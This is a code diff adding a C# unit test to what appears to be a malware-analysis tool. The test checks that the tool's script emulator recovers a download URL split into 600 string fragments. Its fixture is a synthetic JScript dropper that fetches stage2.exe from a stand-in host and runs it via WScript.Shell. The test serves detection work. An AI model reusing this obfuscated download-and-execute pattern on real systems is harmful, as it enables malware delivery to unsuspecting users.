@@ -130,6 +130,31 @@ public sealed class EmulationTests
     }
 
     [Fact]
+    public async Task A_url_joined_from_hundreds_of_fragments_is_recovered_despite_the_engine_nesting_limit()
+    {
+        // 600 fragments in one a + b + ... chain: deeper than the 256 levels Jint prepares, so the chain is flattened.
+        const string Url = "http://fragments.example.org/payload/stage2.exe";
+        var parts = Enumerable.Range(0, 600).Select(i => i < Url.Length ? Url[i].ToString() : "").ToList();
+        var declarations = string.Concat(parts.Select((p, i) => $"var f{i} = \"{p}\";\n"));
+        // Numbers first: the sum stays left to right, 1 + 2 is 3 before any string joins in.
+        var chain = "1 + 2 + " + string.Join(" + ", parts.Select((_, i) => $"f{i}"));
+        var script = declarations + $$"""
+            var joined = {{chain}};
+            var url = joined.substring(1);
+            var http = new ActiveXObject("MSXML2.XMLHTTP");
+            http.open("GET", url, false);
+            http.send();
+            new ActiveXObject("WScript.Shell").Run(joined.charAt(0) == "3" ? "cmd /c start stage2.exe" : "wrong order", 0);
+            """;
+
+        var report = await Analyse(script);
+
+        Assert.Equal(Verdict.Malicious, report.Verdict);
+        Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Url && i.Value == Url);
+        Assert.Contains("cmd /c start stage2.exe", Emulation(report, "emulation-download-execute").Evidence, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task A_payload_decoded_from_base64_is_emitted_as_a_dropped_file_and_analysed()
     {
         var payload = "@echo off\r\nstart calc.exe\r\n";
